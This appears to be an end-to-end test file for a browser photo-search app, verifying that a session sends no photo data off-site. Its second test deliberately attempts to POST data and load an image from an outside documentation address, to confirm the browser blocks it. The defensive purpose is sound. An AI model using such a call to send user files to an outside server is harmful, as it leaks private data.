/** @file No photo and nothing about one leaves the browser: a whole session, seen from outside of it. */
import { afterEach, beforeEach, expect, inject, test } from 'vitest';
import { openApp, results, samplePath, type AppPage } from './page.ts';
import { startRecordingProxy, type RecordingProxy } from './recording-proxy.ts';

let proxy: RecordingProxy;
let app: AppPage;
beforeEach(async () => {
  proxy = await startRecordingProxy(new URL(inject('appUrl')).origin);
  app = await openApp({ switches: proxy.switches });
});
afterEach(async () => {
  await app.close();
  await proxy.close();
});

test('the session asks for files of the app, sends nothing and asks nobody else', async () => {
  const { page } = app;
  await page.getByRole('button', { name: 'Try sample photos' }).click();
  await page.getByText(/\d+ photos added/u).waitFor();
  await page.getByLabel('Search by image').first().setInputFiles(samplePath('mountain-autumn'));
  expect(await results(page)).toHaveLength(5);
  const downloading = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Export CSV' }).click();
  await (await downloading).path();
  // The graph is saved last: with it everything that a session does has been done.
  await expect
    .poll(() => page.evaluate(async () => (await lookalike.status()).index.saved), { timeout: 30_000 })
    .toBe(true);

  // The proxy sees what workers fetch: the model is an embed worker's, the graph's engine the store worker's.
  const addresses = proxy.requests.map((request) => request.url);
  expect(addresses).toContainEqual(expect.stringMatching(/models\/.*int8.*\.onnx$/u));
  expect(addresses).toContainEqual(expect.stringMatching(/assets\/hnswlib.*\.js$/u));
  expect(addresses).toContainEqual(expect.stringMatching(/\/samples\/photos\/kite\.jpg$/u));

  const base = inject('appUrl');
  const notOurs = addresses.filter((address) => !address.startsWith(base));
  expect(notOurs).toEqual([]);
  // No body, and nothing in the address beyond the name of a file.
  const telling = proxy.requests.filter(
    ({ method, url, bodyBytes }) => method !== 'GET' || bodyBytes > 0 || new URL(url).search !== '',
  );
  expect(telling).toEqual([]);
  expect(app.foreign).toEqual([]);
  await page.getByRole('button', { name: 'Back to the library' }).click();
  expect(app.complaints).toEqual([]);
});

test('a script that tries to reach another server from the page or a worker is stopped in the browser', async () => {
  const { page } = app;
  await page.evaluate(() => lookalike.ready);
  const outcomes = await page.evaluate(async () => {
    const elsewhere = 'http://203.0.113.1/photo';
    const attempt = (work: () => Promise<unknown>): Promise<string> =>
      work().then(
        () => 'sent',
        () => 'stopped',
      );
    const image = new Promise((resolve, reject) => {
      const element = new Image();
      element.onload = resolve;
      element.onerror = () => reject(new Error('not loaded'));
      element.src = elsewhere;
    });
    return {
      fetch: await attempt(() => fetch(elsewhere, { method: 'POST', body: 'photo', mode: 'no-cors' })),
      image: await attempt(() => image),
    };
  });
  expect(outcomes).toEqual({ fetch: 'stopped', image: 'stopped' });
  const reached = proxy.requests.filter(({ url }) => url.includes('203.0.113.1'));
  expect(reached).toEqual([]);
});
